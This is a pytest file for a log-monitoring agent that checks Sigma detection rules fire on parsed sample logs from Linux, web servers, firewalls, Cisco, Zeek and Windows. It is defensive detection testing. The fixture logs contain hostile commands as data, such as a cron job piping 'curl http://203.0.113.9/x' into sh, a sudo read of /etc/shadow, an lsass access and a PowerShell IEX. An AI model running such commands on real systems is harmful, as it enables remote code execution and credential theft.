# SPDX-License-Identifier: Apache-2.0
"""Rules in Sigma's own words meet what the agent makes of real forms of logs: log sources and names of fields."""

from datetime import UTC

import pytest

from giamsat_agent.interpreter import Interpreter, everything
from giamsat_agent.parsers import audit
from giamsat_agent.parsers.recognizer import Recognizer
from giamsat_rules.engine import Engine
from giamsat_rules.load import load_pack, load_rules, shipped
from giamsat_rules.verdict import Occurrence, Subject
from support.entries import entry

NOW_NS = 1_795_449_600 * 10**9
RULE = """title: A rule
id: 00000000-0000-4000-8000-000000000001
name: asked
status: test
logsource: {source}
detection:
  one: {one}
  condition: one
level: low
"""
REQUEST = (
    '203.0.113.9 - - [23/Nov/2026:16:00:00 +0000] "GET /cgi-bin/x.pl?cmd=id HTTP/1.1" 404 5 "https://a.example/"'
    ' "curl/8.1"'
)
DENIED = (
    '<189>date=2026-11-23 time=16:00:00 devname="fw" devid="FGT60F0000000001" logid="0000000013" type="traffic" '
    'subtype="forward" level="notice" srcip=203.0.113.9 dstip=192.0.2.5 dstport=3389 proto=6 action="deny"'
)
ADDED = (
    '<189>date=2026-11-23 time=16:00:00 devname="fw" devid="FGT60F0000000001" logid="0100044547" type="event" '
    'subtype="system" level="information" logdesc="Object attribute configured" user="an" ui="GUI(192.0.2.9)" '
    'action="Add" cfgpath="system.admin" cfgobj="toor" msg="Add system.admin toor"'
)
CISCO = "<189>Nov 23 16:00:00 sw-1 %PARSER-5-CFGLOG_LOGGEDCMD: User:an logged command:username toor privilege 15"
ZEEK = (
    '{"_path":"dns","ts":1795449600.0,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":40000,"id.resp_h":"10.0.0.1",'
    '"id.resp_p":53,"proto":"udp","query":"a.example.test","qtype_name":"TXT"}'
)
CRON = "Nov 23 16:00:00 web CRON[9]: (root) CMD (curl http://203.0.113.9/x | sh)"
SYSTEM = "<System><Provider Name='{provider}'/><EventID>{number}</EventID><Channel>{channel}</Channel></System>"


def windows(number, channel, **data):
    """An event of Windows as XML."""
    provider = "Microsoft-Windows-Sysmon" if "Sysmon" in channel else "Microsoft-Windows-Security-Auditing"
    system = SYSTEM.format(provider=provider, number=number, channel=channel)
    values = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in data.items())
    return f"<Event xmlns='x'>{system}<EventData>{values}</EventData></Event>"


def sysmon(number, **data):
    return windows(number, "Microsoft-Windows-Sysmon/Operational", **data)


def line(text):
    """The events of one line that a device or another host sent."""
    recognizer = Recognizer(zone=UTC, origin={"event.provider": "syslog"})
    return [found.event for found in recognizer.recognize(text.encode(), key=b"k", now_ns=NOW_NS, mono_ns=1)]


def said(program, *texts, **attested):
    """The events of a host's own journal."""
    understood = everything().also({audit.PROGRAM: audit.Audit({"1000": "an"}.get)})
    interpreter = Interpreter(understood, provider="journald")
    entries = [entry(program, text, attested=attested) for text in texts]
    return [event for one in entries for event in interpreter.events(one, mono_ns=1)]


def executed(*words):
    """What the audit system of a host says of an execution."""
    who = 'ppid=1 pid=9 uid=1000 comm="x" exe="/usr/bin/chattr" key="run"'
    call = f"SYSCALL arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 {who}"
    arguments = " ".join(f'a{number}="{word}"' for number, word in enumerate(words))
    return said("audit", call, f"EXECVE argc={len(words)} {arguments}", _TRANSPORT="audit", _AUDIT_ID="7")


@pytest.fixture
def fires(tmp_path):
    """A function that tells whether a rule with one selection fires on one of some events."""

    def fires(source, one, events):
        (tmp_path / "asked.yml").write_text(RULE.format(source=source, one=one))
        rules = load_rules(tmp_path)
        assert rules.problems == ()
        engine = Engine(rules, load_pack(shipped().pack))
        return any(engine.judge(Occurrence(Subject("host", 3), each.wall_ns, each.fields)) for each in events)

    return fires


@pytest.mark.parametrize(
    ("source", "one", "events"),
    [
        ("{product: linux, service: auditd}", "{type: EXECVE, a0|contains: chattr, a1|contains: '-i'}", "executed"),
        ("{product: linux, service: auditd}", "{type: SYSCALL, exe|endswith: /chattr, key: run}", "executed"),
        ("{product: linux, category: process_creation}", "{Image|endswith: /chattr, User: an}", "executed"),
        ("{product: linux, category: process_creation}", "{CommandLine|contains|all: [chattr, ' -i ']}", "executed"),
        ("{product: linux, service: sshd}", "['Failed password for root']", "sshd"),
        ("{product: linux, service: auth}", "['Failed password']", "sshd"),
        ("{product: linux, service: sudo}", "{'|all': ['NOT in sudoers', /etc/shadow]}", "sudo"),
        ("{product: linux, service: cron}", "['curl http']", "cron"),
        ("{product: linux}", "['curl http']", "cron"),
        ("{category: webserver}", "{cs-uri-query|contains: /cgi-bin/, cs-method: GET, sc-status: 404}", "request"),
        ("{category: webserver}", "{cs-uri-query|startswith: 'cmd=', c-useragent|startswith: curl}", "request"),
        (
            "{category: webserver}",
            "{c-uri|endswith: 'cmd=id', cs-referer|contains: a.example, c-ip: 203.0.113.9}",
            "request",
        ),
        ("{category: firewall}", "{dst_port: 3389, src_ip|cidr: 203.0.113.0/24, dst_ip: 192.0.2.5}", "firewall"),
        ("{product: fortigate}", "{dst_port: [22, 3389]}", "firewall"),
        ("{category: firewall}", "{action: [deny, drop], dst_port: 3389}", "firewall"),
        ("{product: fortigate, service: event}", "{action: Add, cfgpath: system.admin}", "administrator"),
        ("{product: cisco, service: aaa}", "[username, aaa]", "cisco"),
        ("{product: zeek, service: dns}", "{query|endswith: .test, qtype_name: TXT, id.orig_h: 10.0.0.5}", "zeek"),
        ("{category: dns}", "{query|contains: example, record_type: TXT}", "zeek"),
        ("{product: windows, category: process_creation}", "{Image|endswith: '\\cmd.exe', User: an}", "created"),
        ("{product: windows, service: security}", "{EventID: 4688, NewProcessName|endswith: '\\cmd.exe'}", "created"),
        ("{product: windows, category: process_creation}", "{ParentImage|endswith: '\\w3wp.exe'}", "created"),
        ("{product: windows, service: security}", "{EventID: 4624, LogonType: 10, IpAddress: 203.0.113.9}", "logon"),
        ("{product: windows, service: security}", "{TargetUserName: an, SubjectUserName: 'SRV$'}", "logon"),
        (
            "{product: windows, category: registry_set}",
            "{TargetObject|contains: '\\Run\\', Details: x.exe}",
            "registry",
        ),
        (
            "{product: windows, category: process_access}",
            "{TargetImage|endswith: '\\lsass.exe', GrantedAccess: '0x1010'}",
            "access",
        ),
        (
            "{product: windows, category: network_connection}",
            "{DestinationPort: 4444, Initiated: 'true'}",
            "connection",
        ),
        ("{product: windows, category: ps_script}", "{ScriptBlockText|contains: IEX}", "script"),
    ],
)
def test_a_rule_in_the_words_of_sigma_fires_on_what_the_agent_tells(fires, source, one, events):
    told = {
        "executed": executed("chattr", "-i", "/etc/passwd"),
        "sshd": said("sshd-session", "Failed password for root from 203.0.113.9 port 40000 ssh2"),
        "sudo": said("sudo", "an : user NOT in sudoers ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"),
        "cron": line(CRON),
        "request": line(REQUEST),
        "firewall": line(DENIED),
        "cisco": line(CISCO),
        "administrator": line(ADDED),
        "zeek": line(ZEEK),
        "created": line(
            windows(
                4688,
                "Security",
                SubjectUserName="an",
                NewProcessName="C:\\Windows\\System32\\cmd.exe",
                ParentProcessName="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            )
        ),
        "logon": line(
            windows(
                4624, "Security", SubjectUserName="SRV$", TargetUserName="an", LogonType=10, IpAddress="203.0.113.9"
            )
        ),
        "registry": line(sysmon(13, TargetObject="HKLM\\Software\\Run\\x", Details="x.exe")),
        "access": line(sysmon(10, TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1010")),
        "connection": line(sysmon(3, Initiated="true", DestinationIp="203.0.113.9", DestinationPort=4444)),
        "script": line(windows(4104, "Microsoft-Windows-PowerShell/Operational", ScriptBlockText="IEX (x)")),
    }
    assert fires(source, one, told[events])


@pytest.mark.parametrize(
    ("source", "one", "events"),
    [
        ("{product: cisco, service: aaa}", "[username, Failed]", "sshd"),
        ("{product: zeek, service: http}", "['203.0.113.9']", "firewall"),
        ("{product: linux, service: sudo}", "['Failed password']", "sshd"),
        ("{product: windows}", "['Failed password']", "sshd"),
        ("{product: windows, category: file_event}", "['Run']", "registry"),
    ],
)
def test_a_rule_for_another_source_stays_silent(fires, source, one, events):
    told = {
        "sshd": said("sshd-session", "Failed password for root from 203.0.113.9 port 40000 ssh2"),
        "firewall": line(DENIED),
        "registry": line(sysmon(13, TargetObject="HKLM\\Software\\Run\\x")),
    }
    assert not fires(source, one, told[events])
